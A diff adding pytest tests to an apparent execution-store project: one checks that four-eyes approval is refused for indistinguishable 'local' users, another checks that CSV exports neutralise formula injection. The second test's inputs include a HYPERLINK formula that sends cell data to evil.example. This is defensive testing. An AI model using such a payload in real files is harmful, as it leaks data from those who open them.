@@ -234,6 +234,19 @@ async def test_what_fell_due_was_recovered_swept_and_removed(
     ]  # fmt: skip
 
 
+async def test_four_eyes_are_refused_where_nobody_can_tell_two_people_apart(store: ExecutionStore) -> None:
+    """Whoever uses a server without tokens is ``local``, who may be the very person that the file knows by name."""
+    for owner, actor in (("local", "ada"), ("ada", "local"), ("local", "local")):
+        ids = await asked(store, owner=owner, assignees=["ada", "local"], four_eyes=True)
+        with pytest.raises(FourEyes, match="--tokens-file"):
+            await store.resolve_interaction(*ids, SURE, actor=actor)
+        for someone in (Actor(actor), Actor(actor, roles=frozenset({"operator"}))):
+            with pytest.raises(FourEyes, match="--tokens-file"):
+                await Service(store).answer(someone, *ids, SURE)
+    one = await asked(store, owner="local", assignees=["local"])
+    await store.resolve_interaction(*one, SURE, actor="local")
+
+
 async def test_four_eyes_cannot_be_had_by_two(store: ExecutionStore, path: Path) -> None:
     ids = await asked(store, four_eyes=True)
     for actor in ("ada", Actor("ada"), None, Actor("ada", roles=frozenset({"operator"}))):
@@ -249,6 +262,37 @@ async def test_four_eyes_cannot_be_had_by_two(store: ExecutionStore, path: Path)
     with unguarded(path) as connection:
         connection.execute("UPDATE history SET actor = 'ada' WHERE actor = 'grace'")
     assert [row["answered_by"] for row in told(path, "four_eyes_violations")] == ["ada"], "the view would show one"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1)',
+        "+1",
+        "-1",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        "\n=1",
+        "'=1",
+        "\uff1d1",
+        "'quoted'",
+    ],
+)
+async def test_no_text_of_an_exported_table_is_a_formula(store: ExecutionStore, path: Path, text: str) -> None:
+    """OWASP, CSV Injection (CWE-1236)."""
+    record = await store.create_execution(actor=text)
+    await store.cancel(record.execution_id, text, actor="ada")
+    table = list(csv.DictReader(io.StringIO(exported(path, "csv").decode(), newline="")))
+    assert [row["actor"] for row in table[-2:]] == [f"'{text}", "ada"]
+    assert table[-1]["cause"] == f"'{text}"
+    lines = [json.loads(line) for line in exported(path, "jsonl").splitlines()]
+    assert lines[-1]["cause"] == text
+    with reading(path) as connection:
+        for form in exports.FORMATS:
+            export = exports.Export(connection, exports.span(connection), form)
+            assert all(export)
+            assert ("formulas" in export.manifest()) == (form == "csv")
 
 
 async def test_a_timeline_ends_with_the_sweep(
